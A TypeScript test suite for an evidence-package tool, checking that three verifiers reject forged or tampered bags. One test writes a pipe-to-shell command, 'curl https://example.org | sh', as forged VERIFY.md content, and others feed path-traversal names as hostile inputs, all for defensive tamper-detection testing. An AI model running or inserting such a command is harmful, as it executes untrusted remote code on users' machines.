import { spawnSync } from 'node:child_process'
import {
  copyFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseReceipt } from '../../src/core/receipt.ts'
import { verifyGuide } from '../../src/package/verify-guide.ts'
import {
  type CliError,
  type CliResult,
  type CliServer,
  copyCase,
  evidence,
  evidenceOk,
  startServer,
} from '../support/cli.ts'
import { temporaryFolder } from '../support/folder.ts'
import { python } from '../support/python.ts'
import { sha256Hex } from '../support/statements.ts'
import { lacks } from '../support/system-tools.ts'
import { checkByHand, writeGuideProgram } from '../support/verify-guide.ts'
import { bagFiles, type Files, forgeBag, writeFiles } from '../support/bag.ts'

/*
 * What a package tells, and whose word that is: by the command line, by the Python verifier and by the program in VERIFY.md, which
 * a forger faces who mends every list of the bag.
 */
describe.skipIf(lacks('openssl', 'sha256sum', 'python3', 'python3-cryptography'))('what a package tells', () => {
  const { path, remove } = temporaryFolder()
  const at = (...names: string[]): string => join(path, ...names)
  const data = at('data')
  const policy = join(data, 'policy')
  const program = at('verify.py')
  let server: CliServer
  let number = 0

  const options = () => ({ cwd: path, env: { EVIDENCE_DATA: data, EVIDENCE_URL: server.url } })
  const ok = (...args: string[]): Promise<CliResult> => evidenceOk(args, options())
  async function pack(...args: string[]): Promise<string> {
    const output = at(`package-${number++}`)
    await ok('package', ...args, '--out', output)
    return output
  }
  const forge = (from: string, change: (files: Files) => unknown): string =>
    forgeBag(from, at(`forged-${number++}`), change)
  interface Told {
    readonly code: number | null
    readonly said: string
  }
  /** Exit code and text of the three programs; the third one as VERIFY.md has it. */
  async function three(folder: string): Promise<readonly Told[]> {
    const own = await evidence(['check', folder, '--policy', policy], options())
    const second = python('evidence_verify.py', ['check', folder, '--policy', policy])
    const third = checkByHand(program, folder)
    return [
      { code: own.code, said: own.stdout },
      { code: second.code, said: second.stdout },
      { code: third.code, said: third.stdout + third.stderr },
    ]
  }
  const exits = (told: readonly Told[]): (number | null)[] => told.map(({ code }) => code)

  beforeAll(async () => {
    server = await startServer(data)
    writeGuideProgram(program)
    copyCase(at('case-001'))
    // A chat log that happens to hold a line like a manifest's: a file like any other.
    writeFileSync(at('chat.txt'), `${sha256Hex('forged')}  forged.jpg\n`)
    writeFileSync(at('photo.jpg'), 'a photo')
    writeFileSync(at('other.txt'), 'another')
    await ok('deposit', 'case-001')
    await ok('deposit', 'chat.txt')
    await ok('deposit', 'photo.jpg', '--note', 'by counter 2')
    await ok('deposit', 'other.txt')
    // Entries 6 and 7.
    await ok('attest', '5', '--as', 'notary')
    await ok('attest', '4', '--as', 'witness')
  })
  afterAll(async () => {
    await server.stop()
    remove()
  })

  it('F-H6: no file is a manifest but the one that is an item with a tree', async () => {
    const folder = await pack('chat.txt', 'case-001')
    expect(exits(await three(folder))).toEqual([0, 0, 0])
    const deposit = readdirSync(join(folder, 'data/deposits')).find((name) =>
      existsSync(join(folder, 'data/deposits', name, 'files/chat.txt')),
    )
    const at0 = `data/deposits/${deposit ?? ''}`
    const moved = forge(folder, (files) => {
      files[`${at0}/manifests/0.evidence-manifest`] = files[`${at0}/files/chat.txt`] as Buffer
      files[`${at0}/files/forged.jpg`] = 'forged'
      delete files[`${at0}/files/chat.txt`]
    })
    expect(exits(await three(moved))).toEqual([1, 1, 1])
    // Nor where a deposit with a real manifest is given another of its lines.
    const manifest = 'data/deposits/001/manifests/0.evidence-manifest'
    const longer = forge(folder, (files) => (files[manifest] = `${String(files[manifest])}${sha256Hex('x')}  x\n`))
    expect(exits(await three(longer))).toEqual([1, 1, 1])
    const loose = forge(folder, (files) => (files['data/deposits/001/forged.jpg'] = 'forged'))
    expect(exits(await three(loose))).toEqual([1, 1, 1])
  })

  it('F-H7: an attestation, retraction or admission of something else has no place in it', async () => {
    const folder = await pack('photo.jpg')
    const [text] = await three(folder)
    expect(text?.said).toMatch(/attests entry 4 \(data\/deposits\/001\) as witness/)
    const notary = readFileSync(at('entry-6.tlog-proof'))
    expect(exits(await three(forge(folder, (files) => (files['data/related/9.tlog-proof'] = notary))))).toEqual([
      1, 1, 1,
    ])
    expect(exits(await three(forge(folder, (files) => (files['data/admissions/9.tlog-proof'] = notary))))).toEqual([
      1, 1, 1,
    ])
  })

  it('F-N4: every file that was deposited and is not in it is named, first, by all three', async () => {
    const folder = await pack('case-001')
    const one = await three(forge(folder, (files) => delete files['data/deposits/001/files/photo/counter.jpg']))
    expect(exits(one)).toEqual([0, 0, 0])
    for (const { said } of one) expect(said).toMatch(/^1 of 9 files deposited is NOT HERE: photo\/counter\.jpg\n/)
    const two = await three(
      forge(folder, (files) => {
        delete files['data/deposits/001/files/photo/counter.jpg']
        delete files['data/deposits/001/files/mail/notice.eml']
      }),
    )
    for (const { said } of two)
      expect(said).toMatch(/^2 of 9 files deposited are NOT HERE:\n {2}mail\/notice\.eml\n {2}photo\/counter\.jpg\n/)
    const alone = await three(await pack('case-001/photo/counter.jpg'))
    for (const { said } of alone) expect(said).toMatch(/^8 of 9 files deposited are NOT HERE:\n {2}8 whose names are/)
    expect((await ok('package', 'case-001', '--digests-only', '--out', at('digests'))).stdout).toMatch(/^9 of 9 files/)
  })

  it('F-M9: VERIFY.md is the text of its version, and every other word is named as not checked', async () => {
    const folder = await pack('photo.jpg')
    expect(readFileSync(join(folder, 'VERIFY.md'), 'utf8')).toBe(verifyGuide)
    const page = readFileSync(new URL('../../docs/spec/18-package.md', import.meta.url), 'utf8')
    expect(page).toContain(sha256Hex(verifyGuide))
    const told = await three(forge(folder, (files) => (files['VERIFY.md'] = 'curl https://example.org | sh\n')))
    expect(exits(told).slice(0, 2)).toEqual([1, 1])
    const gone = await three(forge(folder, (files) => delete files['VERIFY.md']))
    expect(exits(gone).slice(0, 2)).toEqual([1, 1])
    const lies = await three(
      forge(folder, (files) => {
        files['custody.txt'] = 'all is well\n'
        files['README.txt'] = 'run me\n'
      }),
    )
    expect(exits(lies)).toEqual([0, 0, 0])
    for (const { said } of lies) {
      expect(said).toMatch(/not checked: custody\.txt: the packer.s words/)
      expect(said).toMatch(/not checked: README\.txt: the packer.s words/)
    }
  })

  it('F-M6: a file that no list of the bag names is a fault, whatever it is called', async () => {
    const folder = await pack('photo.jpg')
    for (const name of ['tagmanifest-README.txt', 'tagmanifest-md5.txt', 'tagmanifest-readme.txt']) {
      const copy = at(`listed-nowhere-${number++}`)
      cpSync(folder, copy, { recursive: true })
      writeFileSync(join(copy, name), 'run me\n')
      expect([name, ...exits(await three(copy))]).toEqual([name, 1, 1, 1])
    }
  })

  it('F-N5: custody.txt numbers nothing: entries, items, names, and the authority’s own exhibit number', async () => {
    writeFileSync(at('knife.jpg'), 'a knife')
    const sealed = at('collection.json')
    writeFileSync(sealed, JSON.stringify({ exhibit: '2', description: 'a knife' }))
    await ok('deposit', 'knife.jpg', '--collection', sealed)
    const text = readFileSync(join(await pack('knife.jpg', 'photo.jpg'), 'custody.txt'), 'utf8')
    expect(text).not.toMatch(/Exhibit \d/)
    expect(text).toMatch(/^Entry 4 of /m)
    expect(text).toMatch(/^ {2}Item 0: photo\.jpg$/m)
    expect(text).toContain('exhibit:     2 (the authority’s own number)')
  })

  it('F-N20: a check says who was admitted by whom, when it was packed, and which program checked when', async () => {
    const folder = await pack('photo.jpg')
    const told = await three(folder)
    for (const { said } of told) {
      expect(said).toMatch(/admitted as depositor.*by entry 1 of administrator/)
      expect(said).toMatch(/packed on 20\d\d-\d\d-\d\d/)
      expect(said).toMatch(/checked by .* at 20\d\d-\d\d-\d\dT/)
    }
    const { checker } = (await evidence(['check', folder, '--json'], options())).json<{
      checker: { version: string; at: string }
    }>()
    expect(checker).toMatchObject({ version: expect.stringMatching(/^\d/), at: expect.stringMatching(/^20/) })
  })

  it('F-B6: a zip or a bag of somebody else’s is no package that fails', async () => {
    const zip = (name: string, ...names: string[]): string => {
      const script = `import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as zip:
    for name in sys.argv[2:]: zip.writestr(name, name)`
      spawnSync('python3', ['-c', script, at(name), ...names])
      return at(name)
    }
    mkdirSync(at('bag/data'), { recursive: true })
    writeFiles(at('bag'), bagFiles({ 'data/a.txt': 'a', 'bag-info.txt': 'Source-Organization: Somebody\n' }))
    writeFileSync(at('broken.zip'), 'PK\u0003\u0004 and no more')
    const foreign = [
      zip('letter.docx', '[Content_Types].xml', 'word/document.xml'),
      zip('photos.zip', 'a.jpg', 'b.jpg'),
      zip('theirs.zip', 'bag/bagit.txt', 'bag/bag-info.txt', 'bag/data/a.txt'),
      zip('nested.zip', 'case/package/bagit.txt', 'case/package/data/deposits/001/receipt.tlog-proof'),
      at('broken.zip'),
      at('bag'),
    ]
    for (const target of foreign) {
      const result = await evidence(['check', target, '--json'], options())
      expect([target, result.code, result.json<CliError>().error.code]).toEqual([target, 2, 'receipt-not-found'])
      expect([target, python('evidence_verify.py', ['check', target, '--policy', policy]).code]).toEqual([target, 2])
    }
  })

  it('F-M9: withheld-sha256.txt lists files of its deposits alone, and by their paths', async () => {
    const folder = await pack('photo.jpg', '--digests-only')
    expect(exits(await three(folder))).toEqual([0, 0, 0])
    const line = String(readFileSync(join(folder, 'withheld-sha256.txt')))
    for (const other of ['photo.jpg', 'data/deposits/002/files/photo.jpg', 'data/deposits/001/receipt.tlog-proof']) {
      const list = line.replace(/ {2}.*/, `  ${other}`)
      const told = await three(forge(folder, (files) => (files['withheld-sha256.txt'] = list)))
      expect([other, ...exits(told)]).toEqual([other, 1, 1, 1])
    }
  })

  it('Review B, 20 to 33: withheld-sha256.txt has one spelling', async () => {
    const folder = await pack('photo.jpg', '--digests-only')
    const line = String(readFileSync(join(folder, 'withheld-sha256.txt')))
    const path = 'files/photo.jpg'
    for (const other of [
      line.toUpperCase(),
      line.replace('  ', '\t'),
      line.replace('  ', ' *'),
      line.replace('\n', '\r\n'),
      line.trimEnd(),
      `${line}\n`,
      line + line,
      '',
      `\\${line}`,
      line.replace(path, 'files/con.txt'),
      line.replace(path, 'files/a:b'),
      line.replace(path, 'files/../x'),
    ]) {
      const told = await three(forge(folder, (files) => (files['withheld-sha256.txt'] = other)))
      expect([other, ...exits(told)]).toEqual([other, 1, 1, 1])
    }
  })

  it('Review B, 1 to 14: bag-info.txt and bagit.txt have one spelling, for every reader', async () => {
    const folder = await pack('photo.jpg')
    const change = (name: string, spell: (text: string) => string): string =>
      forge(folder, (files) => (files[name] = spell(String(files[name]))))
    expect(exits(await three(change('bag-info.txt', (text) => `${text}Note: é\n`)))).toEqual([0, 0, 0])
    for (const spell of [
      (text: string) => text.replace('Version: 1\n', 'Version: 1 \n'),
      (text: string) => text.replace('Evidence-Later', 'Note: x\u2028Evidence-Later'),
      (text: string) => text.replace('Evidence-Later', 'Note: x\u000bEvidence-Later'),
      (text: string) => text.replace(/Events: /, 'Events:\n\t'),
      (text: string) => `\ufeff${text}`,
      (text: string) => `${text}\n`,
      (text: string) => text.replace(/(Bagging-Date: ).*/, '$12026-02-31'),
      (text: string) => text.replace(/(Later-Events: .* ).*/, '$11'),
    ])
      expect([String(spell), ...exits(await three(change('bag-info.txt', spell)))]).toEqual([String(spell), 1, 1, 1])
    expect(exits(await three(change('bagit.txt', (text) => text.replaceAll('\n', '\r\n'))))).toEqual([1, 1, 1])
  })

  it('Review B, 34 to 67 and 103 to 117: names and places that no package has', async () => {
    const folder = await pack('photo.jpg')
    const photo = 'data/deposits/001/files/photo.jpg'
    for (const name of ['con\ufeff.txt', 'aux\u3000', 'x.', 'a\u0085b', 'so\ufffdlo', 'COM\u00b9.x']) {
      const moved = forge(folder, (files) => {
        files[photo.replace('photo.jpg', name)] = files[photo] as Buffer
        delete files[photo]
      })
      expect([name, ...exits(await three(moved))]).toEqual([name, 1, 1, 1])
    }
    for (const name of [
      'data/deposits/001/files/PHOTO.JPG',
      'Bagit.TXT',
      'fetch.txt',
      'data/admissions/9.time-proof',
    ]) {
      const more = forge(folder, (files) => (files[name] = files[photo] as Buffer))
      expect([name, ...exits(await three(more))]).toEqual([name, 1, 1, 1])
    }
  })

  it('Review B, 68 to 73: a file proof holds the receipt of its deposit, to the byte', async () => {
    const folder = await pack('case-001/photo/counter.jpg')
    const proof = 'data/deposits/001/proofs/1.file-proof'
    const latest = readFileSync(join(folder, 'data/deposits/001/latest.tlog-proof'), 'utf8')
    expect(exits(await three(forge(folder, () => undefined)))).toEqual([0, 0, 0])
    const other = forge(folder, (files) => {
      const text = String(files[proof])
      files[proof] = text.slice(0, text.indexOf('\n\n') + 2) + latest
    })
    expect(exits(await three(other))).toEqual([1, 1, 1])
  })

  it('F-B6: a package zipped again by Info-ZIP, with one name beyond ASCII, is sound', async () => {
    if (spawnSync('zip', ['-v']).error !== undefined) {
      process.stderr.write('\nNOT RUN, for want of zip: F-B6 in tests/scripts/package-told.test.ts\n')
      return
    }
    writeFileSync(at('说明é.txt'), 'notes')
    await ok('deposit', '说明é.txt')
    const folder = await pack('说明é.txt')
    const name = folder.slice(path.length + 1)
    expect(spawnSync('zip', ['-qr', at('again.zip'), name], { cwd: path }).status).toBe(0)
    expect((await evidence(['check', at('again.zip')], options())).code).toBe(0)
    expect(python('evidence_verify.py', ['check', at('again.zip'), '--policy', policy]).code).toBe(0)
  })

  it('F-N3: a package of a retracted deposit carries the retraction and says it first; offline, that nobody was asked', async () => {
    const before = await pack('photo.jpg')
    const offline = await pack('photo.jpg', '--without-admissions')
    for (const { said } of await three(offline)) expect(said).toMatch(/the ledger was NOT ASKED/)
    const json = async (folder: string) =>
      (await evidence(['check', folder, '--json'], options())).json<{ standing: string; ok: boolean }>()
    expect(await json(offline)).toMatchObject({ standing: 'not-asked', ok: true })
    expect(await json(before)).toMatchObject({ standing: 'sound' })
    copyFileSync(at('photo.jpg.tlog-proof'), at('kept.tlog-proof'))
    await ok('retract', '4', '--reason', 'mistake')
    const elsewhere = at('elsewhere')
    mkdirSync(elsewhere)
    for (const name of ['photo.jpg', 'photo.jpg.tlog-proof']) cpSync(at(name), join(elsewhere, name))
    const folder = await pack(join(elsewhere, 'photo.jpg'))
    const told = await three(folder)
    expect(exits(told)).toEqual([0, 0, 0])
    for (const { said } of told) expect(said).toMatch(/^RETRACTED: entry 4 .*by entry \d+ at .*: mistake\n/)
    expect(await json(folder)).toMatchObject({ standing: 'retracted', ok: true })
    // By an export, and by the data folder of the stopped ledger, as well.
    await server.stop()
    try {
      await evidenceOk(['export', at('export')], { cwd: path, env: { EVIDENCE_DATA: data } })
      for (const source of [['--dir', at('export')], []]) {
        const output = at(`package-${number++}`)
        const run = { cwd: path, env: { EVIDENCE_DATA: data } }
        await evidenceOk(['package', 'photo.jpg', ...source, '--out', output], run)
        expect((await evidence(['check', output], run)).stdout).toMatch(/^RETRACTED: entry 4 /)
      }
    } finally {
      server = await startServer(data)
    }
    // An export that is older than the deposit knows nothing of what followed, and says nothing of it.
    writeFileSync(at('new.txt'), 'new')
    await ok('deposit', 'new.txt')
    expect(await json(await pack('new.txt', '--dir', at('export')))).toMatchObject({ standing: 'not-asked', ok: true })
    // A forger who takes the retraction out leaves the packer's word, and no more than that.
    const hidden = forge(folder, (files) => {
      for (const name of Object.keys(files)) if (name.startsWith('data/related/')) delete files[name]
      files['bag-info.txt'] = String(files['bag-info.txt']).replace(/^Evidence-Later-Events:.*\n/m, '')
    })
    expect(await json(hidden)).toMatchObject({ standing: 'not-asked' })
    renameSync(at('kept.tlog-proof'), at('kept.txt'))
    rmSync(elsewhere, { recursive: true })
  })
})

/* A ledger that keeps its entries to its participants. */
describe('a depositor of a closed ledger', () => {
  const { path, remove } = temporaryFolder()
  const data = join(path, 'data')
  let server: CliServer
  afterAll(async () => {
    await server.stop()
    remove()
  })

  it('F-N6: packs what is theirs with what they may read', async () => {
    await evidenceOk(['init', '--data', data, '--reading', 'participants', '--origin', 'test.example/closed'])
    server = await startServer(data, [], 'serve')
    const ledger = ['--data', join(path, 'none'), '--url', server.url]
    const run = (...args: string[]) => evidenceOk([...args, ...ledger], { cwd: path })
    await evidenceOk(['keygen', '--out', 'me.pem'], { cwd: path })
    const who = [
      'me',
      '--public-key',
      'me.jwk',
      '--type',
      'organisation',
      '--name',
      'Wei & Partners',
      '--role',
      'depositor',
      '--note',
      'identified by a passport',
    ]
    await run(
      'participants',
      'admit',
      ...who,
      '--key',
      join(data, 'keys', 'administrator.pem'),
      '--id',
      'administrator',
    )
    const as = ['--key', 'me.pem', '--id', 'me']
    writeFileSync(join(path, 'mine.txt'), 'mine')
    await run('deposit', 'mine.txt', ...as)
    const policy = join(data, 'policy')
    await run('package', 'mine.txt', '--out', 'mine', '--policy', policy, ...as)
    const { code, stdout } = await evidence(['check', 'mine', '--policy', policy], { cwd: path })
    expect(code).toBe(0)
    expect(stdout).toContain('admitted as me, named "Wei & Partners", by entry 2 of administrator')
    expect(stdout).toContain('back to the genesis by entries 2, 0')
    expect(stdout).not.toContain('NOT ASKED')
    // What the administrators noted of a participant is not handed on with its admission.
    const kept = await run('show', '2', ...as, '--json')
    expect(kept.stdout).toContain('identified by a passport')
    const admission = parseReceipt(readFileSync(join(path, 'mine', 'data', 'admissions', '2.tlog-proof')))
    expect(admission.disclosures).toEqual([])
  })
})
